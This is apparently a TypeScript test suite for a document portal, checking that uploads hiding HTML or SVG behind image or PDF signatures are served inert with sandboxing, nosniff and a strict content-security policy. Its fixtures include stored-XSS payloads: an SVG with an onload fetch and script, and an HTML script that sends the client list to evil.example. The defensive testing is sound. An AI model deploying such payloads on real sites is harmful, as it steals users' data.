// Issue 15: documents opened in the browser cannot run script under the portal's address. The content
// check reads only a file's first bytes (and an Office file's directory), so an HTML or SVG payload can
// follow an accepted signature: it is stored, and must never be served as a page of the portal.
import t from 'tap'
const tap = t
import { injectAs, seedAccount } from '../helpers/accounts.js'
import { buildTestApp } from '../helpers/app.js'
import { addType, DOCX, upload } from './fixtures.js'

const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/users/clients\')"><script>parent.pwned = 1</script></svg>')
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/users/clients").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>')
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const JPEG_SIGNATURE = Buffer.from([0xff, 0xd8, 0xff, 0xe0])

const { app, admin, client } = await (async () => {
  const built = await buildTestApp(t)
  const admin = await seedAccount(built.app, { admin: true })
  const client = await seedAccount(built.app, { accepted: true })
  await addType(built.app, admin, 'Bilan')
  return { ...built, admin, client }
})()

async function stored(filename: string, content: Buffer): Promise<{ id: number; url: string }> {
  const res = await upload(app, client, { type: 'Bilan', userId: client.id, filename, content })
  t.equal(res.statusCode, 201, `${filename} accepted: its signature is right`)
  const id = res.json().id as number
  const listed = (await injectAs(app, admin, '/api/documents/new-documents?pageSize=200')).json<Array<{ id: number; path: string }>>()
  return { id, url: listed.find((d) => d.id === id)!.path }
}

/** What makes a response unable to run script as the portal, whatever its bytes. */
function assertInert(t: { equal: typeof tap.equal; match: typeof tap.match; notMatch: typeof tap.notMatch }, res: Awaited<ReturnType<typeof app.inject>>, expected: { type: string; disposition: 'inline' | 'attachment'; sandbox: boolean }) {
  t.equal(res.statusCode, 200)
  t.equal(res.headers['content-type'], expected.type, 'the checked type, never text/html or image/svg+xml')
  t.equal(res.headers['x-content-type-options'], 'nosniff', 'no browser second-guesses it')
  t.match(String(res.headers['content-disposition']), new RegExp(`^${expected.disposition};`))
  const policy = String(res.headers['content-security-policy'])
  t.match(policy, /default-src 'none'/, 'nothing loads by default')
  t.notMatch(policy, /script-src/, 'no script source allowed (default-src none covers scripts)')
  t.notMatch(policy, /unsafe-eval|'self' 'unsafe-inline'.*script/, 'no script loophole')
  t.match(policy, /form-action 'none'/)
  if (expected.sandbox) t.match(policy, /(^|; )sandbox(;|$)/, 'sandbox: a unique origin without script')
  t.equal(res.headers['cross-origin-resource-policy'], 'same-origin', 'no other site can embed it')
}

t.test('an SVG or HTML file under an image or PDF name, without the signature, is refused', async (t) => {
  for (const [filename, content] of [['facture.png', SVG], ['facture.jpg', SVG], ['bilan.pdf', HTML], ['bilan.png', HTML]] as const) {
    const res = await upload(app, client, { type: 'Bilan', userId: client.id, filename, content })
    t.equal(res.statusCode, 415, filename)
  }
  for (const filename of ['dessin.svg', 'page.html', 'page.htm', 'image.svgz']) {
    t.equal((await upload(app, client, { type: 'Bilan', userId: client.id, filename, content: SVG })).statusCode, 415, filename)
  }
})

t.test('an SVG payload behind a PNG or JPEG signature is served as an image, sandboxed', async (t) => {
  for (const [filename, signature, type] of [['facture.png', PNG_SIGNATURE, 'image/png'], ['facture.jpg', JPEG_SIGNATURE, 'image/jpeg']] as const) {
    const { id, url } = await stored(filename, Buffer.concat([signature, SVG]))
    assertInert(t, await injectAs(app, admin, url), { type, disposition: 'inline', sandbox: true })
    assertInert(t, await injectAs(app, client, url), { type, disposition: 'inline', sandbox: true })
    assertInert(t, await injectAs(app, admin, `/api/documents/download/${id}`), { type, disposition: 'attachment', sandbox: true })
  }
})

t.test('an HTML payload behind a PDF signature is served as a PDF with a policy that runs no script', async (t) => {
  const { id, url } = await stored('bilan.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]))
  // Inline for the browser's PDF viewer, which refuses to start under `sandbox` (docs/decisions/026-serving-stored-files.md).
  assertInert(t, await injectAs(app, admin, url), { type: 'application/pdf', disposition: 'inline', sandbox: false })
  assertInert(t, await injectAs(app, admin, `/api/documents/download/${id}`), { type: 'application/pdf', disposition: 'attachment', sandbox: true })
})

t.test('an Office file (whatever its parts hold) is an attachment, sandboxed', async (t) => {
  const { url } = await stored('bilan.docx', DOCX)
  assertInert(t, await injectAs(app, admin, url), { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', disposition: 'attachment', sandbox: true })
})
